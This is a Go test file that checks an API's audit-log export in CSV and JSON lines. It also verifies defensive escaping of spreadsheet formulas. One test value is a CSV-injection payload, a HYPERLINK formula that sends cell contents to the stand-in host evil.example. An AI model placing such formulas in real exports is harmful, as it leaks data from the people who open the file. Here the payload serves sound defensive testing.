package api_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/google/uuid"
	"github.com/stretchr/testify/require"

	"github.com/minohq/mino/api/wire"
	"github.com/minohq/mino/models"
)

// auditColumns are those of an export, written down a second time.
var auditColumns = []string{
	"id", "created_at", "actor_kind", "actor_id", "actor_name", "operation", "target_type", "target_id", "outcome",
	"before", "after", "request_id", "ip", "user_agent",
}

// auditLines reads an export in JSON lines.
func auditLines(t *testing.T, body []byte) []map[string]any {
	t.Helper()
	var out []map[string]any
	dec := json.NewDecoder(bytes.NewReader(body))
	for {
		var line map[string]any
		err := dec.Decode(&line)
		if err == io.EOF {
			return out
		}
		require.NoError(t, err)
		out = append(out, line)
	}
}

func TestAuditLogIsExported(t *testing.T) {
	t.Parallel()
	b := setupScenes(t)
	name := `=HYPERLINK("https://evil.example/?"&A1) ` + uuid.NewString()
	_, key := b.keyOf(models.DefaultOrganisationID, func(k *models.APIKey) { k.Name = name })
	formula, _ := b.keyOf(models.DefaultOrganisationID, func(k *models.APIKey) { k.Name = "+" + name })
	p := b.as(formula).project()
	b.patch("/api/projects/"+p.ID.String(), `{"name": "=1+1"}`).is(http.StatusOK)
	read[wire.APIKey](b.post(keysPath+"/"+key.ID.String()+"/revoke", ``), http.StatusOK)

	file := b.get(auditPath + "/export?format=csv")
	file.is(http.StatusOK)
	require.Equal(t, "text/csv; charset=utf-8; header=present", file.header.Get("Content-Type"))
	require.Contains(t, file.header.Get("Content-Disposition"), "audit-log.csv")
	require.Equal(t, "no-store", file.header.Get("Cache-Control"))
	table, err := csv.NewReader(bytes.NewReader(file.body)).ReadAll()
	require.NoError(t, err)
	require.Equal(t, auditColumns, table[0])

	exact := b.get(auditPath + "/export?format=jsonl")
	exact.is(http.StatusOK)
	require.Equal(t, "application/x-ndjson", exact.header.Get("Content-Type"))
	lines := auditLines(t, exact.body)
	// The exports are in it themselves: this one has begun, and the one before has ended.
	require.Len(t, lines, len(table)-1+2)
	operations := make([]string, len(lines))
	for i, line := range lines {
		operations[i] = line["operation"].(string) + " " + line["outcome"].(string)
	}
	require.Equal(t, []string{
		"createProject done", "updateProject done", "revokeKey done",
		"exportAudit requested", "exportAudit done", "exportAudit requested",
	}, operations, "oldest first")

	for i, row := range table[1:] {
		for j, column := range auditColumns {
			want := lines[i][column]
			switch column {
			case "before", "after":
				if want == nil {
					require.Empty(t, row[j])
					continue
				}
				raw, err := json.Marshal(want)
				require.NoError(t, err)
				require.JSONEq(t, string(raw), row[j], "row %d, %s", i, column)
			default:
				text, _ := want.(string)
				if strings.HasPrefix(text, "=") || strings.HasPrefix(text, "+") {
					text = "'" + text
				}
				require.Equal(t, text, row[j], "row %d, %s", i, column)
			}
			require.False(t, strings.ContainsAny(row[j][:min(1, len(row[j]))], "=+-@\t\r"), "row %d, %s is a formula: %s", i, column, row[j])
		}
	}
	require.Equal(t, "'+"+name, table[1][slices.Index(auditColumns, "actor_name")])
	require.Equal(t, "+"+name, lines[0]["actor_name"])

	// The list and the export tell the same.
	listed := read[wire.Page[wire.AuditEntry]](b.get(auditPath+"?target_id="+p.ID.String()), http.StatusOK).Data
	found := auditLines(t, b.get(auditPath+"/export?format=jsonl&target_id="+p.ID.String()).is(http.StatusOK).body)
	require.Len(t, found, 2)
	require.Len(t, listed, 2)
	slices.Reverse(listed)
	for i, e := range listed {
		raw, err := json.Marshal(e)
		require.NoError(t, err)
		for column, value := range found[i] {
			if value == nil {
				delete(found[i], column)
			}
		}
		line, err := json.Marshal(found[i])
		require.NoError(t, err)
		require.JSONEq(t, string(raw), string(line))
	}

	for query, field := range map[string]string{
		"format=xlsx": "format", "format=json": "format", "columns=id": "columns", "format=jsonl&bom=true": "bom", "actor=x": "actor", "to=never": "to",
	} {
		at(t, b.get(auditPath+"/export?"+query).problem(http.StatusBadRequest, wire.CodeInvalidParams), field)
	}
}
